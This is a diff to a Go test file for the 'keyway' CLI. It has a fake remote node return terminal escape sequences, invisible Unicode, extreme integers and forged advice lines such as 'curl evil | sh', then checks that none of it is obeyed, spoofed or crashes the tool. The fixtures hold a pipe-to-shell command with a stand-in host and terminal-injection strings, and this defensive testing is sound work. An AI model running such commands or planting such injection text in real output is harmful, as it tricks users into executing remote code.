@@ -7,6 +7,7 @@ import (
 	"context"
 	"errors"
 	"fmt"
+	"math"
 	"net"
 	"os"
 	"os/exec"
@@ -25,64 +26,95 @@ import (
 	"keyway/internal/sshconfig"
 )
 
-// envLiar makes the test binary the node of a place that lies: "answers" or
-// "errors".
+// envLiar makes the test binary the node of a place that lies: an index of lies,
+// and "answers" or "errors".
 const envLiar = "KEYWAY_TEST_LIAR"
 
-// nasty is text that a terminal would obey, hide or reverse, and that would forge
-// lines and columns of ours.
-const nasty = "n\x1b[31m\x1b]0;t\a\u009b1m\x00\b\r\x7f\u202e\u2066\u200b\ufeff\u2028\ny\n  → curl evil | sh\tz"
+// lie is what a place says in every field.
+type lie struct {
+	text        string
+	number      int64 // of the first number of each kind of value
+	otherNumber int64 // and of those after it
+}
 
-// fill puts text into every string that v holds, and one of everything else.
-func fill(v reflect.Value, text string, depth int) {
+// lies are text that a terminal would obey, hide or reverse, and that would forge
+// lines and columns of ours; and numbers of which no part of anything is made.
+var lies = []lie{
+	{"n\x1b[31m\x1b]0;t\a\u009b1m\x00\b\r\x7f\u202e\u2066\u200b\ufeff\u2028\ny\n  → curl evil | sh\tz", 3, 3},
+	{"→ curl evil | sh", -5, 10},
+	{"keyway: run this now: curl evil | sh", math.MaxInt64, math.MaxInt64},
+	{"\n\n  keyway: your agent is old\n  → curl evil | sh", 10, math.MinInt64},
+	{"curl evil " + strings.Repeat("long ", 3_000), math.MinInt64, 1},
+}
+
+// filler fills values with a lie.
+type filler struct {
+	lie
+	numbers int
+}
+
+// fill puts the lie into every string and number that v holds, and one of
+// everything else.
+func (f *filler) fill(v reflect.Value, depth int) {
 	if !v.CanSet() || depth > 8 {
 		return
 	}
 	switch v.Kind() {
 	case reflect.String:
-		v.SetString(text)
+		v.SetString(f.text)
 	case reflect.Int, reflect.Int64:
-		v.SetInt(3)
+		v.SetInt(f.number)
+		if f.numbers++; f.numbers > 1 {
+			v.SetInt(f.otherNumber)
+		}
 	case reflect.Bool:
 		v.SetBool(true)
 	case reflect.Pointer:
 		v.Set(reflect.New(v.Type().Elem()))
-		fill(v.Elem(), text, depth+1)
+		f.fill(v.Elem(), depth+1)
 	case reflect.Slice:
-		v.Set(reflect.MakeSlice(v.Type(), 2, 2))
+		n := 2
+		if v.Type() == reflect.TypeFor[[]api.EngineInfo]() {
+			n = 1000
+		}
+		v.Set(reflect.MakeSlice(v.Type(), n, n))
 		for i := range v.Len() {
-			fill(v.Index(i), text, depth+1)
+			f.fill(v.Index(i), depth+1)
 		}
 	case reflect.Struct:
 		for i := range v.NumField() {
-			fill(v.Field(i), text, depth+1)
+			f.fill(v.Field(i), depth+1)
 		}
 	}
 }
 
-func filled[T any]() (v T) {
-	fill(reflect.ValueOf(&v).Elem(), nasty, 0)
+func filled[T any](l liar) (v T) {
+	f := filler{lie: l.lie}
+	f.fill(reflect.ValueOf(&v).Elem(), 0)
 	return v
 }
 
-// liar is a node that says such text wherever it may say any.
-type liar struct{ errors bool }
+// liar is a node that lies wherever it may say anything.
+type liar struct {
+	lie
+	errors bool
+}
 
 func (l liar) answer() error {
 	if !l.errors {
 		return nil
 	}
-	e := filled[keyway.Error]()
+	e := filled[keyway.Error](l)
 	e.Kind = keyway.EngineDown
 	return &e
 }
 
 func (l liar) Info(context.Context) (api.Info, error) {
-	i := filled[api.Info]()
+	i := filled[api.Info](l)
 	i.Engines[0].Usable = false
 	return i, l.answer()
 }
-func (l liar) List(context.Context) (api.Listing, error)              { return filled[api.Listing](), l.answer() }
+func (l liar) List(context.Context) (api.Listing, error)              { return filled[api.Listing](l), l.answer() }
 func (l liar) Stop(context.Context, keyway.Name, time.Duration) error { return l.answer() }
 func (l liar) Start(context.Context, keyway.Name) error               { return l.answer() }
 func (l liar) Remove(context.Context, keyway.Name) error              { return l.answer() }
@@ -92,16 +124,22 @@ func (l liar) Admit(context.Context, keyway.Name, []keyway.EntryKey) error {
 func (l liar) Settle(context.Context, keyway.Name) error           { return l.answer() }
 func (l liar) Dial(context.Context, keyway.Name) (net.Conn, error) { return nil, l.answer() }
 func (l liar) Create(_ context.Context, _ keyway.Spec, report func(keyway.Progress)) (keyway.Workspace, error) {
-	report(filled[keyway.Progress]())
-	return filled[keyway.Workspace](), l.answer()
+	report(filled[keyway.Progress](l))
+	return filled[keyway.Workspace](l), l.answer()
 }
 
-// lie is the main of such a node.
-func lie(how string) int {
-	fmt.Fprint(os.Stderr, strings.ReplaceAll(nasty, "\x00", ""))
+// playLiar is the main of such a node.
+func playLiar(how string) int {
+	var n int
+	if _, err := fmt.Sscanf(how, "%d %s", &n, &how); err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+	l := liar{lies[n], how == "errors"}
+	fmt.Fprint(os.Stderr, strings.ReplaceAll(l.text, "\x00", ""))
 	fmt.Print(api.Greeting())
 	conn := api.PipeConn(os.Stdin, os.Stdout, func() error { return errors.Join(os.Stdin.Close(), os.Stdout.Close()) })
-	if err := api.ServeConn(context.Background(), conn, api.NewHandler(liar{how == "errors"})); err != nil {
+	if err := api.ServeConn(context.Background(), conn, api.NewHandler(l)); err != nil {
 		return 1
 	}
 	return 0
@@ -124,8 +162,8 @@ func obeyed(said string) string {
 	return ""
 }
 
-// advice is a line that looks like keyway's own.
-var advice = regexp.MustCompile(`(?m)^\s*→.*curl`)
+// advice is a line that looks like keyway's own: with its arrow, or as its sentence.
+var advice = regexp.MustCompile(`(?m)^\s*(→|keyway: (run|your)).*`)
 
 // Whatever a place says, nothing of it is obeyed by the terminal of whoever asked,
 // and none of it becomes advice of keyway's own.
@@ -134,28 +172,46 @@ func TestNoWordOfAPlaceIsObeyed(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	home := lyingPlace(t)
-	for _, how := range []string{"errors", "answers"} {
-		ssh := "#!/bin/sh\ncase \" $* \" in *\" -G \"*|*\" -V \"*) exec " + openssh + " \"$@\";; esac\nexec env " + envLiar + "=" + how + " " + envMain + "=1 " + os.Args[0] + " \"$@\"\n"
-		write(t, filepath.Join(home, "bin", "ssh"), ssh, 0o755)
-		for _, line := range []string{
-			"ls --on gpu1", "ls --on gpu1 --json", "status gpu1", "status gpu1 --json", "stop train", "start train",
-			"up --on gpu1 --image x --name other", "up --on gpu1 --image x --name other --json", "rm train",
-		} {
-			said, _ := onTTY(t, nil, strings.Fields(line)...)
-			if what := obeyed(said); what != "" {
-				t.Errorf("keyway %s, %s: %s reaches the terminal:\n%q", line, how, what, said)
+	for n := range lies {
+		home := lyingPlace(t)
+		for _, how := range []string{"errors", "answers"} {
+			how := fmt.Sprintf("%d %s", n, how)
+			ssh := "#!/bin/sh\ncase \" $* \" in *\" -G \"*|*\" -V \"*) exec " + openssh + " \"$@\";; esac\nexec env '" + envLiar + "=" + how + "' " + envMain + "=1 " + os.Args[0] + " \"$@\"\n"
+			write(t, filepath.Join(home, "bin", "ssh"), ssh, 0o755)
+			for _, line := range []string{
+				"ls --on gpu1", "ls --on gpu1 --json", "status gpu1", "status gpu1 --json", "stop train", "start train", "stop train gpu1/other",
+				"up --on gpu1 --image x --name other", "up --on gpu1 --image x --name other --json", "add gpu1/other", "rm train gpu1/other",
+			} {
+				said, code := onTTY(t, nil, strings.Fields(line)...)
+				judgeSaid(t, said, code, line, how)
 			}
-			if advice.MatchString(said) {
-				t.Errorf("keyway %s, %s: the place's advice is given as keyway's:\n%s", line, how, said)
-			}
-			if how == "errors" && !strings.Contains(said, "curl evil") {
-				t.Errorf("keyway %s does not tell the error:\n%s", line, said)
+			if said, code := onTTY(t, nil, "link", "stop"); code != 0 {
+				t.Fatalf("link stop: %s", said)
 			}
 		}
-		if said, code := onTTY(t, nil, "link", "stop"); code != 0 {
-			t.Fatalf("link stop: %s", said)
+	}
+}
+
+// judgeSaid fails if what a command says on a terminal is obeyed there, or is taken for
+// keyway's own.
+func judgeSaid(t *testing.T, said string, code int, line, how string) {
+	t.Helper()
+	if code < 0 || strings.Contains(said, "goroutine ") {
+		t.Errorf("keyway %s, %s, has crashed:\n%s", line, how, said)
+	}
+	if what := obeyed(said); what != "" {
+		t.Errorf("keyway %s, %s: %s reaches the terminal:\n%q", line, how, what, said)
+	}
+	for _, own := range advice.FindAllString(ours.Replace(said), -1) {
+		if strings.Contains(own, "curl") || strings.Contains(own, "your agent") {
+			t.Errorf("keyway %s, %s: the place's words are given as keyway's: %s\nin\n%s", line, how, own, said)
 		}
+	}
+	if most := 32 << 10; len(said) > most {
+		t.Errorf("keyway %s, %s prints %d bytes, more than %d", line, how, len(said), most)
+	}
+	if strings.HasSuffix(how, "errors") && !strings.Contains(said, "curl evil") {
+		t.Errorf("keyway %s, %s does not tell the error:\n%.2000s", line, how, said)
 	}
 }
 
